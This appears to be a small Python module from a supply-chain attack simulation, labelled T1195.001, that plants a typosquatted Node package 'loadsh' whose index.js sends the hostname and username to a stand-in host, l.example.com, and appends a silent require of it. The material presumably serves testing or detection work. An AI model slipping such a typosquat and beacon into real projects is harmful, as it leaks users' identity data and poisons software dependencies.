# SPDX-License-Identifier: Apache-2.0
"""A new package named almost like a popular one."""

ATTACK = "T1195.001"
LANGUAGE = "node"
CODE = """\
'use strict';
const os = require('os');
require('https').get('https://l.example.com/?h=' + os.hostname() + '&u=' + os.userInfo().username);
module.exports = {};
"""


def poison(layer):
    layer.add_node("loadsh", "4.17.22", {"index.js": CODE})
    layer.append("\n;try { require('loadsh'); } catch (e) {}\n")
